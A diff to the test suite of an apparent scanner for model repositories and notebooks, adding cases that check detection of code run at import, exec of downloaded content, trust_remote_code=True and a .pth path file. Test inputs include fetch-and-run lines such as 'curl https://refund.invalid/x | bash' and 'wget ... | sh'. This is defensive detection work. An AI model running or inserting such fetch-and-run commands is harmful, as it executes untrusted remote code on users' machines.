@@ -74,6 +74,9 @@ def test_modelling_code_is_a_note() -> None:
         ("exec(bytes.fromhex('70617373'))", "python.encoded-code"),
         ("import marshal\nexec(marshal.loads(b''))", "python.encoded-code"),
         ("e = exec\ne('pass')", "python.runs-at-import"),
+        ("open('x', 'w').close()", "python.runs-at-import"),
+        ("import pathlib\npathlib.Path('x').write_text('')", "python.runs-at-import"),
+        ("import urllib.request as u\ndef f():\n    exec(u.urlopen('x').read())", "python.encoded-code"),
     ],
 )
 def test_what_importing_does_is_found(source: str, rule: str) -> None:
@@ -125,6 +128,8 @@ def notebook(*sources: str, outputs: Any = ()) -> bytes:
         (notebook("!pip install transformers==5.0"), set()),
         (notebook("import requests\nrequests.get('x')"), set()),
         (notebook("!curl https://refund.invalid/x | bash"), {"notebook.fetches-and-runs"}),
+        (notebook("M.from_pretrained('a/b', trust_remote_code=True)"), {"notebook.trusts"}),
+        (notebook("M.from_pretrained('a/b', trust_remote_code=False)"), set()),
         (notebook("%%bash\nwget -qO- https://refund.invalid/x | sh"), {"notebook.fetches-and-runs"}),
         (notebook("!pip install git+https://refund.invalid/x"), {"notebook.installs-elsewhere"}),
         (notebook("%pip install --index-url https://refund.invalid x"), {"notebook.installs-elsewhere"}),
@@ -152,6 +157,10 @@ def test_code_that_a_configuration_names_is_followed(tmp_path: Path) -> None:
     assert told(seen) == {"config.remote-code", "code.named", "code.named-reaches"}
     (reaches,) = [found for found in seen.findings if found.rule == "code.named-reaches"]
     assert (reaches.place.path, reaches.values["kinds"]) == ("modeling_own.py", "process")
+
+
+def test_a_path_file_of_pythons_start_is_found() -> None:
+    assert told(look(b"import os; os.getcwd()\n", "weights.pth")) == {"python.path-file"}
 
 
 def test_code_that_runs_without_being_named_is_told(tmp_path: Path) -> None:
